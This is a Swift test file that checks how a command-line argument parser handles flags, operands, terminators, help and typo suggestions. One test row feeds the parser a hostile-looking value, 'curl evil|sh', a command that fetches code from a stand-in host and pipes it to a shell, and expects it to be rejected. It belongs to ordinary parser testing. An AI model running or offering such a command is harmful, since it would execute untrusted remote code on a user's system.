import BallotArguments
import Testing

/// Rows of a command line and what it is parsed as; `reliability` 7.2 names the points.
private func expect(
  _ command: CommandDeclaration, _ rows: [(line: String, result: String)]
) {
  for row in rows {
    let result = command.parse(arguments(row.line)).transcript
    #expect(result == row.result, "\(command.name) \(row.line)")
  }
}

@Test func terminatorEndsTheOptions() {
  expect(
    SampleCommand.ballot,
    [
      ("confirm -- Go?", "confirm | PROMPT=Go?"),
      ("confirm -- -x", "confirm | PROMPT=-x"),
      ("confirm -- --", "confirm | PROMPT=--"),
      ("confirm -- --help", "confirm | PROMPT=--help"),
      ("confirm -v -- -v", "confirm verbose | PROMPT=-v"),
      ("confirm Go? --", "confirm | PROMPT=Go?"),
      ("confirm Go? -- --", "@4 unexpected --+0"),
      ("confirm --", "missing PROMPT"),
      ("radio -- -p -o -d", "radio | PROMPT=-p OPTION=-o OPTION=-d"),
      ("radio p -- -a --b -- c", "radio | PROMPT=p OPTION=-a OPTION=--b OPTION=-- OPTION=c"),
      ("radio p a -- -b", "radio | PROMPT=p OPTION=a OPTION=-b"),
      ("radio -- p -a", "radio | PROMPT=p OPTION=-a"),
      ("radio p --", "radio | PROMPT=p"),
      ("radio p -- --help", "radio | PROMPT=p OPTION=--help"),
      ("-- radio p", "radio | PROMPT=p"),
      ("-- radio -r p", "radio raw | PROMPT=p"),
      ("-- --help", "@2 no command --help ?help"),
      ("--", "no command"),
    ])
}

@Test func loneDashIsAnOperandOrAValue() {
  expect(
    SampleCommand.ballot,
    [
      ("form -", "form | FILE=-"),
      ("form - --raw", "form raw | FILE=-"),
      ("form --options-from -", "form options-from=-"),
      ("form --options-from=-", "form options-from=-"),
      ("form -o -", "form option=-"),
      ("form -o-", "form option=-"),
      ("radio - -", "radio | PROMPT=- OPTION=-"),
      ("radio p -", "radio | PROMPT=p OPTION=-"),
      ("confirm -v - -r", "confirm verbose raw | PROMPT=-"),
      ("-", "@1 no command -"),
    ])
}

@Test func lettersMayBeGroupedAndTheLastMayHaveAValue() {
  expect(
    SampleCommand.ballot,
    [
      ("confirm -v p", "confirm verbose | PROMPT=p"),
      ("confirm -vv p", "confirm verbose verbose | PROMPT=p"),
      ("confirm -vvv p", "confirm verbose verbose verbose | PROMPT=p"),
      ("confirm -rp p", "confirm raw pretty | PROMPT=p"),
      ("confirm -pvr p", "confirm pretty verbose raw | PROMPT=p"),
      ("form -oVALUE", "form option=VALUE"),
      ("form -o VALUE", "form option=VALUE"),
      ("form -voVALUE", "form verbose option=VALUE"),
      ("form -vo VALUE", "form verbose option=VALUE"),
      ("form -ov", "form option=v"),
      ("form -o=VALUE", "form option==VALUE"),
      ("form -o=", "form option=="),
      ("form -o ''", "form option="),
      ("form -o", "@2 -o needs VALUE"),
      ("form -vo", "@2 -o needs VALUE"),
      ("form -fraw", "form format=raw"),
      ("form -f=raw", "@2 -f not =raw ?raw"),
      ("form -f raw", "form format=raw"),
      ("form -o-x", "form option=-x"),
      ("form -o --", "form option=--"),
      ("form -vz", "@2 unknown -z"),
      ("form -z", "@2 unknown -z"),
      ("form -vzo", "@2 unknown -z"),
      ("form -zo", "@2 unknown -z"),
      ("form -format", "@2 -f not ormat"),
      ("form -help", "help form"),
      ("form -otext·more", "form option=text more"),
      ("form -o\u{301}x", "form option=\u{301}x"),
      ("form -é", "@2 unknown -é"),
    ])
}

@Test func valuesMayBeAttachedWithAnEqualsSign() {
  expect(
    SampleCommand.ballot,
    [
      ("form --option=a", "form option=a"),
      ("form --option=", "form option="),
      ("form --option==", "form option=="),
      ("form --option=a=b", "form option=a=b"),
      ("form --option=--x", "form option=--x"),
      ("form --option=-", "form option=-"),
      ("form --option=·", "form option= "),
      ("form --option=\u{301}a", "form option=\u{301}a"),
      ("form --option=日本", "form option=日本"),
      ("form --preset=a", "form default=a"),
      ("form --format=raw", "form format=raw"),
      ("form --format=", "@2 --format not "),
      ("form --format", "@2 --format needs FORMAT"),
      ("form --format=jsn", "@2 --format not jsn ?json"),
      ("form --=x", "@2 unknown --"),
      ("form --opton=x", "@2 unknown --opton ?--option"),
      ("form --raw=x", "@2 --raw takes no x"),
      ("form --raw=", "@2 --raw takes no "),
      ("form --pretty=false", "@2 --pretty takes no false ?--no-pretty"),
      ("form --no-pretty=x", "@2 --no-pretty takes no x"),
      ("form --help=x", "@2 --help takes no x"),
    ])
}

@Test func valuesMayStandInTheNextArgument() {
  expect(
    SampleCommand.ballot,
    [
      ("form --option a", "form option=a"),
      ("form --option ''", "form option="),
      ("form --option -", "form option=-"),
      ("form --option --", "form option=--"),
      ("form --option -- -- x", "form option=-- |  | x"),
      ("form --option -x", "form option=-x"),
      ("form --default -x", "form default=-x"),
      ("form --default --raw", "form default=--raw"),
      ("form --default --help", "form default=--help"),
      ("form --min -5", "form min=-5"),
      ("form --min=-5", "form min=-5"),
      ("form --min -1e3", "form min=-1e3"),
      ("form --min -.5", "form min=-.5"),
      ("form --option=a b", "form option=a | FILE=b"),
      ("form --option a b", "form option=a | FILE=b"),
      ("form --option", "@2 --option needs VALUE"),
      ("form --raw --option", "@3 --option needs VALUE"),
      ("form --radio env=Deploy·to", "form radio=env=Deploy to"),
      ("form --radio=env=Deploy·to", "form radio=env=Deploy to"),
      ("form --radio env=", "form radio=env="),
      ("form --option @file", "form option=@file"),
      ("form @file", "form | FILE=@file"),
    ])
}

@Test func negativeNumbersAreOperandsWhereNoOptionIsADigit() {
  expect(
    SampleCommand.ballot,
    [
      ("confirm -5", "confirm | PROMPT=-5"),
      ("confirm -0.5", "confirm | PROMPT=-0.5"),
      ("confirm -.5", "confirm | PROMPT=-.5"),
      ("confirm -5.", "confirm | PROMPT=-5."),
      ("confirm -1e3", "confirm | PROMPT=-1e3"),
      ("confirm -1E-3", "confirm | PROMPT=-1E-3"),
      ("confirm -5 -v", "confirm verbose | PROMPT=-5"),
      ("confirm -5x", "@2 unknown -5; missing PROMPT"),
      ("confirm -1e", "@2 unknown -1; missing PROMPT"),
      ("confirm -.", "@2 unknown -.; missing PROMPT"),
      ("confirm -.e5", "@2 unknown -.; missing PROMPT"),
      ("confirm -5-5", "@2 unknown -5; missing PROMPT"),
      ("confirm --5", "@2 unknown --5; missing PROMPT"),
      ("confirm -v5", "@2 unknown -5; missing PROMPT"),
      ("radio -5 a", "radio | PROMPT=-5 OPTION=a"),
      ("radio p -5", "@3 -5 after PROMPT"),
      ("radio p -- -5", "radio | PROMPT=p OPTION=-5"),
    ])
  expect(
    SampleCommand.answers,
    [("-5", "5"), ("--5", "5"), ("-55", "@1 -5 again, @1"), ("-6", "@1 unexpected -6+0")])
}

@Test func inversionsSwitchOff() {
  expect(
    SampleCommand.answers,
    [
      ("--tests", "tests"),
      ("--no-tests", "tests!"),
      ("--tests --no-tests", "@2 --no-tests again, @1"),
      ("--no-lists", "lists!"),
      ("--lists news", "lists=news"),
      ("--lists news --lists offers", "lists=news lists=offers"),
      ("--lists news --no-lists", "lists=news lists!"),
      ("--no-lists=news", "@1 --no-lists takes no news"),
      ("--no-lists news", "@2 unexpected news+0"),
      ("--no-env", "@1 unknown --no-env"),
      ("--no-no-tests", "@1 unknown --no-no-tests ?--no-tests"),
      ("--no-test", "@1 unknown --no-test ?--no-tests"),
      ("--no-", "@1 unknown --no- ?--no-tests"),
      ("--no-help", "@1 unknown --no-help"),
      ("--tests=on", "@1 --tests takes no on ?--no-tests"),
      ("--lists offer", "@2 --lists not offer ?offers"),
      ("--lists=", "@1 --lists not "),
    ])
}

@Test func repeatedOptionsFollowTheirPolicyAndKeepTheirOrder() {
  expect(
    SampleCommand.ballot,
    [
      ("form -o a -o b -o a", "form option=a option=b option=a"),
      ("form --pretty --no-pretty", "form pretty pretty!"),
      ("form --no-pretty -p", "form pretty! pretty"),
      ("form --min 1 --min 2", "@4 --min again, @2"),
      ("form --min 1 --min=2 --min 3", "@4 --min again, @2"),
      ("form --raw -r", "@3 -r again, @2"),
      ("form -rr", "@2 -r again, @2"),
      ("form -f raw --format json", "@4 --format again, @2"),
      (
        "form --radio a=A -o x -d x --toggle b=B -d on --radio c=C -o y",
        "form radio=a=A option=x default=x toggle=b=B default=on radio=c=C option=y"
      ),
      ("--color never radio p", "radio color=never | PROMPT=p"),
      ("--color never --color auto radio p", "@3 --color again, @1"),
      ("--color=never form --raw x", "form color=never raw | FILE=x"),
    ])
}

@Test func optionsStandAnywhereOrBeforeTheOperands() {
  expect(
    SampleCommand.ballot,
    [
      ("confirm -v Go?", "confirm verbose | PROMPT=Go?"),
      ("confirm Go? -v", "confirm verbose | PROMPT=Go?"),
      ("confirm -p Go? -v", "confirm pretty verbose | PROMPT=Go?"),
      ("form --raw x --pretty", "form raw pretty | FILE=x"),
      ("form x --format raw", "form format=raw | FILE=x"),
      ("radio -o a p", "radio option=a | PROMPT=p"),
      ("radio -o a p b c", "radio option=a | PROMPT=p OPTION=b OPTION=c"),
      ("radio p -o", "@3 -o after PROMPT"),
      ("radio p --default a", "@3 --default after PROMPT"),
      ("radio p --default=a b", "@3 --default=a after PROMPT"),
      ("radio p -a -b", "@3 -a after PROMPT; @4 -b after PROMPT"),
      ("radio p a --help", "@4 --help after PROMPT"),
      ("radio p -h", "@3 -h after PROMPT"),
      ("radio p a -", "radio | PROMPT=p OPTION=a OPTION=-"),
      ("radio p --options-command=curl·evil|sh", "@3 --options-command=curl evil|sh after PROMPT"),
      ("radio -o -x p", "radio option=-x | PROMPT=p"),
      ("radio '' a", "radio | PROMPT= OPTION=a"),
      ("choose p", "radio | PROMPT=p"),
    ])
}

@Test func operandsAreAssignedFromTheLeft() {
  expect(
    SampleCommand.ballot,
    [
      ("confirm p", "confirm | PROMPT=p"),
      ("confirm ''", "confirm | PROMPT="),
      ("confirm", "missing PROMPT"),
      ("confirm Delete all files", "@3 unexpected all+1"),
      ("radio", "missing PROMPT"),
      ("radio p", "radio | PROMPT=p"),
      ("radio p a b", "radio | PROMPT=p OPTION=a OPTION=b"),
      ("form", "form"),
      ("form x", "form | FILE=x"),
      ("form x y", "@3 unexpected y+0"),
      ("form --radio env=Deploy to here", "@5 unexpected here+0"),
      ("completions bash", "completions | SHELL=bash"),
      ("completions bash x", "completions | SHELL=bash FILE=x"),
      ("completions bas", "@2 SHELL not bas ?bash"),
      ("completions powershell", "@2 SHELL not powershell"),
      ("completions", "missing SHELL"),
      ("preview x", "@2 unexpected x+0; missing --keys"),
      ("internal", "internal"),
    ])
  let copy = CommandDeclaration(
    "copy",
    operands: [
      OperandDeclaration("FIRST", .optional), OperandDeclaration("FROM", .many),
      OperandDeclaration("TO"),
    ])
  expect(
    copy,
    [
      ("", "missing TO"),
      ("a", " | TO=a"),
      ("a b", " | FIRST=a TO=b"),
      ("a b c", " | FIRST=a FROM=b TO=c"),
      ("a b c d", " | FIRST=a FROM=b FROM=c TO=d"),
    ])
}

@Test func restIsPassedThroughAsItCame() {
  expect(
    SampleCommand.ballot,
    [
      ("form x --", "form | FILE=x | "),
      ("form x -- --env prod", "form | FILE=x | --env prod"),
      ("form -- --env=prod -- -x", "form |  | --env=prod -- -x"),
      ("form -- --help", "form |  | --help"),
      ("form x -- -h --format nonsense", "form | FILE=x | -h --format nonsense"),
      ("form x --raw -- y", "form raw | FILE=x | y"),
      ("form x --formt -- --env", "@3 unknown --formt ?--format"),
    ])
}

@Test func answerFlagsAreParsedByTheFormsOwnDeclaration() {
  expect(
    SampleCommand.answers,
    [
      ("", ""),
      ("--env prod --tests", "env=prod tests"),
      ("--env=prod", "env=prod"),
      ("--env Prod", "@2 --env not Prod ?prod"),
      ("--env stagign", "@2 --env not stagign ?staging"),
      ("--env production", "@2 --env not production ?prod"),
      ("--env qa", "@2 --env not qa"),
      ("--evn prod", "@1 unknown --evn ?--env"),
      ("--en prod", "@1 unknown --en ?--env"),
      ("--Env prod", "@1 unknown --Env ?--env"),
      ("--environment prod", "@1 unknown --environment ?--env"),
      ("env=prod", "@1 unexpected env=prod+0"),
      ("--help --env qa", "help"),
    ])
}

@Test func helpAndVersionAreResultsAndWinOverFaults() {
  expect(
    SampleCommand.ballot,
    [
      ("--help", "help"),
      ("-h", "help"),
      ("--version", "version"),
      ("--help --version", "help"),
      ("--version --help", "help"),
      ("--help radio", "help radio"),
      ("radio --help", "help radio"),
      ("radio -h", "help radio"),
      ("radio -vh", "help radio"),
      ("radio --nonsense --help", "help radio"),
      ("radio --help --nonsense", "help radio"),
      ("radio --format bad --help", "help radio"),
      ("radio --help p -x", "help radio"),
      ("choose --help", "help radio"),
      ("confirm Go? --help", "help confirm"),
      ("confirm a b c --help", "help confirm"),
      ("preview -h", "help preview"),
      ("radoi --help", "help"),
      ("radoi -- --help", "@1 no command radoi ?radio"),
      ("form -- --help", "form |  | --help"),
      ("form --option --help", "form option=--help"),
      ("--version nonsense", "version"),
      ("--color bad --version", "version"),
      ("help", "help"),
      ("help radio", "help radio"),
      ("help choose", "help radio"),
      ("help help", "help help"),
      ("help internal", "help internal"),
      ("help radoi", "@2 no command radoi ?radio"),
      ("help radio x", "@3 no command x"),
      ("help --bogus radio", "@2 unknown --bogus"),
    ])
}

@Test func mistypedWordsAreNotGuessedButSuggested() {
  expect(
    SampleCommand.ballot,
    [
      ("", "no command"),
      ("radoi", "@1 no command radoi ?radio"),
      ("Radio p", "@1 no command Radio ?radio"),
      ("rad p", "@1 no command rad ?radio"),
      ("xyz", "@1 no command xyz"),
      ("''", "@1 no command "),
      ("interna", "@1 no command interna"),
      ("conifrm p", "@1 no command conifrm ?confirm"),
      ("--colr never radio p", "@1 unknown --colr ?--color"),
      ("--colr=never radio p", "@1 unknown --colr ?--color"),
      ("--colour never radio p", "@1 unknown --colour ?--color"),
      ("--format json radio p", "@1 unknown --format"),
      ("form --form raw", "@2 unknown --form ?--format"),
      ("form --opt x", "@2 unknown --opt ?--option"),
      ("form --options x", "@2 unknown --options ?--option"),
      ("form --Raw", "@2 unknown --Raw ?--raw"),
      ("form --RAW", "@2 unknown --RAW ?--raw"),
      ("form --optoin x", "@2 unknown --optoin ?--option"),
      ("form --secrets x", "@2 unknown --secrets"),
      ("form --secret x", "form secret=x"),
      ("form --zzzzzz", "@2 unknown --zzzzzz"),
      ("form -raw", "@2 unknown -raw ?--raw"),
      ("form -option", "form option=ption"),
      ("form -min 3", "@2 unknown -min ?--min"),
      ("form ---raw", "@2 unknown ---raw ?--raw"),
      ("form --format RAW", "@3 --format not RAW ?raw"),
      ("form --format rwa", "@3 --format not rwa ?raw"),
      ("form --format sh", "@3 --format not sh ?shell"),
      ("form --format yaml", "@3 --format not yaml"),
      ("--color sometimes radio p", "@2 --color not sometimes"),
    ])
}

@Test func everyFaultIsReportedInOneGo() {
  expect(
    SampleCommand.ballot,
    [
      (
        "radio --formt raw --min 1 --min 2 --format xml",
        "@2 unknown --formt ?--format; @6 --min again, @4; @9 --format not xml"
      ),
      ("form --raw --format json", "@2 --raw or --format"),
      ("form --format json --raw --raw", "@4 --raw or --format; @5 --raw again, @4"),
      ("preview", "missing --keys"),
      ("preview --keys", "@2 --keys needs KEYS"),
      ("preview --keys a --folder", "@4 --folder needs FOLDER"),
      ("--color bad confirm --bad=1", "@2 --color not bad; @4 unknown --bad; missing PROMPT"),
      ("--color bad", "@2 --color not bad"),
      ("confirm -z -y a b c", "@2 unknown -z; @3 unknown -y"),
      ("confirm --z a b", "@2 unknown --z"),
    ])
}
